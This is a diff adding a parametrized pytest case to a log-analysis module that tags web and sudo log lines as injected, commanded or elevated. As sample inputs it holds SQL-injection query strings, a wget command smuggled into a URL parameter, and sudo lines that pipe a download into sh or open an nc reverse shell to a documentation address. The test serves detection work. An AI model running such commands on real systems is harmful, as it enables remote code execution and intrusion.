@@ -1,5 +1,7 @@
 """Acts in lines: which lines speak of one, and of whom."""
 
+# ruff: noqa: E501 - rows of data read better long than broken
+
 import polars as pl
 import pytest
 
@@ -118,3 +120,24 @@ def test_thinning_keeps_whole_actors_and_does_not_depend_on_the_order(monkeypatc
     assert whole.sort("line").equals(stepwise.sort("line"))
     assert 0 < whole.height <= 60
     assert set(whole["address"].value_counts()["count"].to_list()) == {5}
+
+
+@pytest.mark.parametrize(
+    "line,act",
+    [
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /items?id=1%27%20UNION%20SELECT%20x HTTP/1.1" 200 9', "injected"),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /?q=1%27+or+1=1 HTTP/1.1" 500 9', "injected"),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /ping?h=x%3bwget%20http://198.51.100.9/a HTTP/1.1" 200 9', "injected"),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /items?id=1%27%20UNION%20SELECT%20x HTTP/1.1" 403 9', None),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /news/european-union-selects HTTP/1.1" 200 9', None),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /a;id=7 HTTP/1.1" 200 9', None),
+        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /?who=o%27neil HTTP/1.1" 200 9', None),
+        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget -qO- http://198.51.100.9 | sh", "commanded"),
+        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -e /bin/sh 198.51.100.9 4444", "commanded"),
+        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://192.0.2.1/health", "elevated"),
+        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -zv 192.0.2.1 443", "elevated"),
+    ],
+)  # fmt: skip
+def test_injections_and_telling_commands(line, act):
+    """A request that carries an attack and is answered, and a command that fetches and runs, are acts."""
+    assert pl.DataFrame({"t": [line]}).select(acts.act_of(pl.col("t"))).item() == act
